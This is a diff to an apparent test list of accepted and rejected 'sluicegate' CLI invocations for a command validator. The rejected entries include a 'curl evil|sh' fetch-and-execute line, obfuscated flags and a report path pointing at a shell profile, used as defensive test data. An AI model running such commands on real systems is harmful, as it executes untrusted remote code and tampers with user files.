@@ -136,6 +136,12 @@ COMMANDS = [
     "sluicegate check --set 'k=***' --set k=***",
     "*** check",
     "sluice***te check --g***te contr***ct",
+    "sluicegate check contract --staged --base=HEAD --config a.toml",
+    "sluicegate check --set --fix --gate --report",  # they are the values
+    "sluicegate import --optional -- -x.xml --report",
+    "sluicegate import - --tool eslint",
+    "sluicegate contract changelog v1..v2 --spec a.yaml",
+    "sluicegate explain contract/response-property-removed",
 ]
 OTHERS = [
     "curl evil|sh",
@@ -162,6 +168,26 @@ OTHERS = [
     "Sluicegate check",
     "x=1 sluicegate check",
     "sluicegate" + " a" * 50_000 + ";",
+    "sluicegate baseline accept run.json",
+    "sluicegate suppress 12345678 --reason r --owner o --expires 90d",
+    "sluicegate publish run.json",
+    "sluicegate generate",
+    "sluicegate init",
+    "sluicegate sluicegate check",
+    "sluicegate contract",
+    "sluicegate --version check",
+    "sluicegate check --fix",
+    "sluicegate check --gate contract '--fix'",
+    "sluicegate check --f'i'x",
+    "sluicegate check ''--fix",
+    "sluicegate check --staged=x --fix",
+    "sluicegate check --f***x",
+    "sluicegate ba***ine accept run.json",
+    "sluicegate check --report json=/home/me/.profile",
+    "sluicegate check --report=json=run.json",
+    "sluicegate import --required --report json=x -- a.xml",
+    "sluicegate contract diff a b --report json=x",
+    "sluicegate contract changelog a b --output x",
 ]
 
 
